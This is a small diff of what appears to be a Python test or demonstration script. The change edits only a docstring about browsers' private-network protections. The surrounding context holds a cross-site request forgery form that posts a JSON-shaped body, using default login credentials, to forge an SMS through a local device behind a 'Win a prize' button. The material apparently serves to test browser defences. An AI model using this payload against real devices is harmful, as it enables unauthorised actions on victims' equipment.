@@ -13,7 +13,7 @@ FORM = """<form method="post" enctype="text/plain" action="http://login:password
 <input name='[{{"phoneNumber":"12135551234","message":"' value='forged"}}]'><button>Win a prize</button></form>"""
 """A form whose body is JSON, and whose address has the login that everybody knows."""
 PROTECTION = "LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"
-"""With which newer browsers keep pages of the world from this machine by themselves; older ones have nothing like it."""
+"""With which newer browsers keep pages of the world from this machine; older ones have nothing like it."""
 ASK = """async ([url, options]) => {
   try {
     const answer = await fetch(url, options)
